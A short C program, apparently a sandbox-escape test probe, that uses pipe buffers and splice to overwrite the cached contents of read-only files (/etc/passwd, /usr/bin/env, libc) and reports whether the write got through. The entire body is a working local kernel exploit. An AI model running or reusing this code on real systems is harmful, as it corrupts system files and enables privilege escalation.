// tries: change files of the image by pages that a pipe has of them
// outcome: succeeded
#include "hostile.h"
int main(void) {
	const char *files[] = {"/usr/bin/env", "/etc/passwd", "/lib/x86_64-linux-gnu/libc.so.6"};
	for (int i = 0; i < 3; i++) {
		int fd = open(files[i], O_RDONLY), p[2];
		if (fd < 0 || pipe(p)) continue;
		char before[64], after[64], room[4096];
		if (pread(fd, before, 64, 0) != 64) continue;
		for (unsigned k = 0; k < 16; k++) if (write(p[1], room, sizeof room) < 0) break; // every buffer was merged once
		for (unsigned k = 0; k < 16; k++) if (read(p[0], room, sizeof room) < 0) break;
		loff_t at = 0;
		if (splice(fd, &at, p[1], NULL, 1, 0) < 1) continue;
		if (write(p[1], "OWNED-BY-A-JOB", 14) < 0) continue;
		if (pread(fd, after, 64, 0) != 64 || memcmp(before, after, 64)) escaped("%s has changed", files[i]);
		close(fd), close(p[0]), close(p[1]);
	}
	return contained();
}
